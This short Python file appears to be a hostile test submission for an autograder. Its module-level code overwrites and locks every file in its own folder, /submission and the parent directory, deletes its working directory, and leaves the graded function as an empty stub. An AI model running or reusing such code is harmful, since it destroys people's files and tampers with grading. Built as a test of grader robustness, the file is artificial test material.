"""State: rewrites its own notebook and the folder of its submission while it is graded."""
DESERVES = 9
# %% describe
import glob
import os

for path in glob.glob("*") + glob.glob("/submission/*") + glob.glob("../*"):
    try:
        open(path, "w").write("{}")
        os.chmod(path, 0)
    except OSError:
        pass
os.makedirs("a/b", exist_ok=True)
os.chdir("a/b")
os.rmdir("../b")
os.chmod("..", 0)


def describe(text):
    return {}
